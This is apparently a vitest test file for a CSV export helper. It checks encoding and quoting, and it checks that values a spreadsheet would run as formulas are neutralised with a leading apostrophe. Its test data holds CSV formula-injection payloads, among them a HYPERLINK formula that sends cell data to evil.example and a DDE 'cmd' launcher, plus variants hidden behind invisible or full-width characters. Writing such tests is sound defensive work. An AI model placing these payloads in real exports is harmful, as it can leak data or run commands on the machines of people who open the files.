import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/csv';

const BOM = '\uFEFF';
const readBack = (csv: string) => Papa.parse<string[]>(csv.slice(1)).data;
const cellOf = (cell: string) => readBack(toCsv(['Name'], [[cell]]))[1]?.[0];

it('starts with a byte order mark and ends its lines with CRLF', () => {
  expect(toCsv(['Name', 'Email'], [['Ada', 'ada@example.com']])).toBe(
    `${BOM}Name,Email\r\nAda,ada@example.com`,
  );
  expect(toCsv(['Name', 'Email'], [])).toBe(`${BOM}Name,Email`);
});

describe('what is whole', () => {
  it.each([
    'a, b',
    'say "hello"',
    '"',
    'two\nlines',
    'two\r\nlines',
    ' spaces ',
    '',
    'Zoë ✂️ 貼り絵',
    'a;b',
    "it's",
    'x=1',
    'ada@example.com',
    '2026-01-31T10:00:00.000Z',
  ])('%j comes back as it was', (cell) => {
    expect(cellOf(cell)).toBe(cell);
  });

  it('keeps the cells of a row apart', () => {
    const rows = [
      ['a,b', 'c"d', 'e\nf'],
      ['', ',', '""'],
    ];
    expect(readBack(toCsv(['x', 'y', 'z'], rows))).toEqual([['x', 'y', 'z'], ...rows]);
  });
});

it('is quoted where a spreadsheet with a decimal comma would part it', () => {
  expect(toCsv(['Name'], [['a;b']])).toBe(`${BOM}Name\r\n"a;b"`);
});

it.each([
  ['foo;=1+1', "foo;'=1+1"],
  ['=1;@SUM(1)', "'=1;'@SUM(1)"],
  ['x; -2+3', "x;' -2+3"],
])('%j is inert behind its semicolons too', (cell, inert) => {
  expect(cellOf(cell)).toBe(inert);
});

describe('what a spreadsheet would run', () => {
  it.each([
    '=HYPERLINK("http://evil.example?x="&A1,"click, me")',
    '=1+1',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '\tplain',
    '\rplain',
    ' =1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＠SUM(1)',
  ])('%j is inert and whole', (cell) => {
    expect(cellOf(cell)).toBe(`'${cell}`);
  });
});
